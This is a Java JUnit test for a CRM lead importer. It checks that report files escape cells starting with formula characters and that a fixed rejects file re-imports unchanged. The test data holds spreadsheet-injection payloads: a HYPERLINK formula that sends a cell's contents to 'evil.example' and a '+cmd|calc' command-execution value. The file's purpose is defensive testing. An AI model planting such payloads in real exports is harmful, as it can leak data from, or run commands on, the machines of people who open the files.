package org.leadroutes.importing;

import java.io.Reader;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;

import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

/**
 * The report files a person opens in a spreadsheet never start a cell with a formula (the export's rule, setting
 * leads.export.escape-formulas), and the import reads its own escape back: a rejects file fixed and dropped again
 * imports the cells as they were, not with a quote in front.
 */
class ImportFormulaCellsTest extends ImportTestSupport {

    private static final String HYPERLINK = "=HYPERLINK(\"http://evil.example/?x=\"&A1;\"click\")";

    @Override
    protected java.util.Properties settings() {
        java.util.Properties p = new java.util.Properties();
        p.setProperty("leads.import.unknown-status", "reject"); // a status the CRM lacks: a reject to fix and drop again
        return p;
    }

    @Test
    void reportsAreSafeToOpenAndAFixedRejectsFileRoundTripsUnchanged() throws Exception {
        String csv = "Company,Email,Notes,@Header,Status\n"
                + "Formula Co,f@formula.example.com,\"" + HYPERLINK.replace("\"", "\"\"") + "\",-1+1,\n"
                + "+cmd|calc,c@cmd.example.com,@SUM(1+1),=2,Won by a formula\n";
        Map<String, Object> report = importFile("formulas.csv", csv);
        assertEquals("done", report.get("status"));
        assertEquals(1L, count(report, "rejected"));
        assertEquals(HYPERLINK, lead("Formula Co").get("description"), "the CRM gets the cell as it was");

        for (String kind : List.of("rejects.csv", "results.csv")) {
            for (String cell : cells(reportFile("formulas.csv", kind))) {
                assertTrue(cell.isEmpty() || "=+-@\t\r".indexOf(cell.charAt(0)) < 0, kind + " starts a cell with a formula: " + cell);
            }
        }
        List<CSVRecord> rejects = rejects("formulas.csv");
        assertEquals("'+cmd|calc", rejects.get(0).get("Company"));
        assertEquals("'@SUM(1+1)", rejects.get(0).get("Notes"));
        assertTrue(Files.readString(reportFile("formulas.csv", "rejects.csv")).startsWith("Company,Email,Notes,'@Header,Status,error"));

        // the rejects file fixed in place and dropped again: the cells import as they were before the escape
        String fixed = Files.readString(reportFile("formulas.csv", "rejects.csv")).replace("Won by a formula", "");
        Map<String, Object> again = importFile("fixed.csv", fixed);
        assertEquals("done", again.get("status"));
        assertEquals(0L, count(again, "rejected"));
        Map<String, Object> lead = lead("+cmd|calc");
        assertEquals("@SUM(1+1)", lead.get("description"));
        assertEquals("'+cmd|calc", results("fixed.csv").get(0).get("Company"), "escaped once again, not twice");
    }

    private static List<String> cells(Path file) throws Exception {
        List<String> all = new ArrayList<>();
        try (Reader r = Files.newBufferedReader(file)) {
            for (CSVRecord record : CSVFormat.DEFAULT.parse(r)) {
                all.addAll(record.toList());
            }
        }
        return all;
    }
}
